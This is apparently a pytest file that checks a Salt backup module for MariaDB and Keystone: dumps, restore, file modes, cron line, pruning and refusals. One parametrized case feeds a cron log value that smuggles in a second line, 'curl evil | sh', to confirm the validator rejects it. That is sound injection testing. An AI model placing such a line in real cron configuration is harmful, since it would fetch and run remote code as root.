"""
Backups of the head's databases (salt/backup, _modules/hltcloud_backup.py) on the real
MariaDB and the real Keystone of tests/functional/test_head_keystone.py (its fixtures: the
mariadb and keystone formulas applied, Keystone served from the formula's keystone.conf,
the catalog converged), the glance and nova databases beside keystone's.

A run is taken with ``hltcloud.backup``; then the keystone database is dropped and restored
with docs/operations.md's own command, and Keystone, started again, serves the same catalog and
the same tokens: the catalog states apply with zero changes, a token issued before the
backup still validates, a new one carries the same catalog. Also: the folder and file
modes, the cron line, keep-N pruning, and the free-space refusal that writes nothing.
"""

import copy
import json
import os
import re
import stat
import subprocess
import urllib.request

import pytest
from salt.exceptions import CommandExecutionError

from tests.functional.test_head_keystone import (  # noqa: F401 (fixtures)
    apply,
    head_run,
    keystone_dir,
    minion_opts,
    pillar,
    served,
    states_root,
)
from tests.support.backup import backup_lookup, readme_command, use_pillar
from tests.support.mariadb import mariadb_server  # noqa: F401 (fixture)

pytestmark = pytest.mark.slow

OTHER_DATABASES = ("glance", "nova")


def sql_as_root(server, pillar, sql, database=None):
    password = pillar["secrets"]["mysql_root_password"]
    return server.query(sql, password=password, database=database)


@pytest.fixture(scope="module")
def databases(head_run, mariadb_server, pillar):
    """glance's and nova's databases beside keystone's, each with a table and a row."""
    for name in OTHER_DATABASES:
        sql_as_root(mariadb_server, pillar, f"CREATE DATABASE IF NOT EXISTS {name}")
        sql_as_root(mariadb_server, pillar, "CREATE TABLE t (v VARCHAR(20))", database=name)
        sql_as_root(mariadb_server, pillar, f"INSERT INTO t VALUES ('{name}-row')", database=name)
    return OTHER_DATABASES


@pytest.fixture(scope="module")
def backup_pillar(pillar, tmp_path_factory):
    """The head test's pillar with the backup folder, cron file and image store under tmp."""
    root = tmp_path_factory.mktemp("backup")
    (root / "store").mkdir()
    (root / "cron.d").mkdir()  # cronie's /etc/cron.d
    data = copy.deepcopy(pillar)
    lookup = data["hltcloud"]["lookup"]
    lookup["backup"] = backup_lookup(root)
    lookup["glance"] = {"images": {"dir": str(root / "store")}}
    return data


@pytest.fixture(scope="module")
def backup_state(loaders, backup_pillar, databases):
    use_pillar(loaders, backup_pillar)
    return apply(loaders, backup_pillar, "backup")


def settings(pillar):
    return pillar["hltcloud"]["lookup"]["backup"]


def test_state_makes_roots_folder_and_the_cron_line(backup_state, loaders, backup_pillar):
    assert [(r.id, r.comment) for r in backup_state if r.result is not True] == []
    backup = settings(backup_pillar)
    info = os.stat(backup["dir"])
    assert (info.st_uid, stat.S_IMODE(info.st_mode)) == (0, 0o700)
    with open(backup["cron"]["file"], encoding="utf-8") as cron:
        lines = [line for line in cron.read().splitlines() if not line.startswith("#")]
    log = backup["cron"]["log"]
    assert lines == [f"30 2 * * * root /usr/bin/salt-call hltcloud.backup >> {log} 2>&1"]
    again = apply(loaders, backup_pillar, "backup")
    assert [(r.id, r.changes) for r in again if r.changes] == []


def test_a_run_dumps_each_database_to_its_own_root_only_file(backup_state, loaders, backup_pillar):
    result = loaders.modules.hltcloud.backup()
    run = result["run"]
    assert sorted(os.listdir(run)) == ["glance.sql", "images", "keystone.sql", "nova.sql"]
    assert stat.S_IMODE(os.stat(run).st_mode) == 0o700
    for name in ("keystone", "glance", "nova"):
        info = os.stat(os.path.join(run, f"{name}.sql"))
        assert (info.st_uid, stat.S_IMODE(info.st_mode)) == (0, 0o600)
        assert result["databases"][name]["bytes"] == info.st_size > 0
    with open(os.path.join(run, "nova.sql"), encoding="utf-8") as dump:
        text = dump.read()
    assert "CREATE DATABASE" in text and "nova-row" in text
    # root's password came from the client file, never into the dump's command line or file
    assert backup_pillar["secrets"]["mysql_root_password"] not in text


def _token(url, password):
    body = {
        "auth": {
            "identity": {
                "methods": ["password"],
                "password": {
                    "user": {"name": "admin", "domain": {"id": "default"}, "password": password}
                },
            },
            "scope": {"project": {"name": "admin", "domain": {"id": "default"}}},
        }
    }
    request = urllib.request.Request(
        url + "/auth/tokens",
        data=json.dumps(body).encode(),
        headers={"Content-Type": "application/json"},
    )
    with urllib.request.urlopen(request, timeout=30) as resp:
        assert resp.status == 201
        return resp.headers["X-Subject-Token"], json.load(resp)["token"]


def _catalog(token):
    return sorted(
        (entry["type"], entry["name"], ep["interface"], ep["url"])
        for entry in token["catalog"]
        for ep in entry["endpoints"]
    )


def _validates(url, admin_token, token):
    request = urllib.request.Request(
        url + "/auth/tokens", headers={"X-Auth-Token": admin_token, "X-Subject-Token": token}
    )
    with urllib.request.urlopen(request, timeout=30) as resp:
        return resp.status == 200


def test_keystone_restored_from_the_dump_serves_the_same_catalog_and_tokens(
    served, backup_state, loaders, backup_pillar, mariadb_server
):
    pillar = backup_pillar
    apply(loaders, pillar, "hltcloud_test.keystone_all")
    url = pillar["keystone"]["auth"]["auth_url"]
    token, before = _token(url, pillar["secrets"]["admin_pass"])
    run = loaders.modules.hltcloud.backup()["run"]

    # The runbook's restore: the service stopped, the database gone, the dump read back.
    served.stop()
    sql_as_root(mariadb_server, pillar, "DROP DATABASE keystone")
    assert ("keystone",) not in sql_as_root(mariadb_server, pillar, "SHOW DATABASES")
    defaults_file = pillar["hltcloud"]["lookup"]["mariadb"]["root"]["defaults_file"]
    command = readme_command("mysql --defaults-file=").replace("/root/.my.cnf", defaults_file)
    proc = subprocess.run(
        ["sh", "-c", command],
        env={**os.environ, "RUN": run},
        capture_output=True,
        text=True,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr
    served.start()

    again = apply(loaders, pillar, "hltcloud_test.keystone_all")
    assert [(r.id, r.changes) for r in again if r.changes] == []
    assert [(r.id, r.comment) for r in again if r.result is not True] == []
    assert _validates(url, pillar["secrets"]["admin_token"], token)
    _, after = _token(url, pillar["secrets"]["admin_pass"])
    assert _catalog(after) == _catalog(before) != []


def test_only_the_last_keep_runs_stay(backup_state, loaders, backup_pillar):
    keep = settings(backup_pillar)["keep"]
    taken = [loaders.modules.hltcloud.backup()["run"] for _ in range(keep + 2)]
    kept = loaders.modules.hltcloud_backup.list_runs()
    assert kept == taken[-keep:]
    assert sorted(os.listdir(settings(backup_pillar)["dir"])) == [os.path.basename(p) for p in kept]


def test_a_run_that_would_leave_too_little_free_space_refuses_and_writes_nothing(
    backup_state, loaders, backup_pillar
):
    folder = settings(backup_pillar)["dir"]
    fs = os.statvfs(folder)
    tight = copy.deepcopy(backup_pillar)
    settings(tight)["min_free_bytes"] = fs.f_bavail * fs.f_frsize + (1 << 30)
    before = sorted(os.listdir(folder))
    use_pillar(loaders, tight)
    try:
        with pytest.raises(CommandExecutionError) as refused:
            loaders.modules.hltcloud.backup()
    finally:
        use_pillar(loaders, backup_pillar)
    message = str(refused.value)
    assert "\n" not in message
    assert re.match(rf"backup refused: it needs about \d+ bytes and {folder} has \d+ free", message)
    assert "backup:min_free_bytes" in message
    assert sorted(os.listdir(folder)) == before


def test_a_folder_others_may_read_is_refused(backup_state, loaders, backup_pillar):
    folder = settings(backup_pillar)["dir"]
    before = sorted(os.listdir(folder))
    os.chmod(folder, 0o755)
    try:
        with pytest.raises(CommandExecutionError, match="must be root's with mode 0700"):
            loaders.modules.hltcloud.backup()
    finally:
        os.chmod(folder, 0o700)
    assert sorted(os.listdir(folder)) == before


def test_clean_takes_the_schedule_away_and_keeps_the_runs(backup_state, loaders, backup_pillar):
    backup = settings(backup_pillar)
    runs = loaders.modules.hltcloud_backup.list_runs()
    results = apply(loaders, backup_pillar, "backup.clean")
    assert [(r.id, r.result) for r in results] == [("backup-cron-file-absent", True)]
    assert not os.path.exists(backup["cron"]["file"])
    assert loaders.modules.hltcloud_backup.list_runs() == runs != []
    again = apply(loaders, backup_pillar, "backup.clean")
    assert [(r.id, r.changes) for r in again if r.changes] == []


@pytest.mark.parametrize(
    ("key", "value", "line"),
    [
        (
            "log",
            "/var/log/b.log\n* * * * * root curl evil | sh",
            "parameter backup:cron:log must be one line of printable text",
        ),
        (
            "schedule",
            "30 2 * *",
            "parameter backup:cron:schedule must be five cron fields, not '30 2 * *'",
        ),
    ],
)
def test_a_cron_part_that_is_not_one_line_of_five_fields_writes_no_cron_file(
    loaders, backup_pillar, key, value, line
):
    bad = copy.deepcopy(backup_pillar)
    settings(bad)["cron"][key] = value
    cron = settings(bad)["cron"]["file"]
    before = open(cron, "rb").read() if os.path.exists(cron) else None
    use_pillar(loaders, bad)
    try:
        results = apply(loaders, bad, "backup")
    finally:
        use_pillar(loaders, backup_pillar)
    (failed,) = [r for r in results if r.id == "backup-cron-file-managed"]
    assert (failed.result, failed.comment) == (False, line)
    after = open(cron, "rb").read() if os.path.exists(cron) else None
    assert after == before
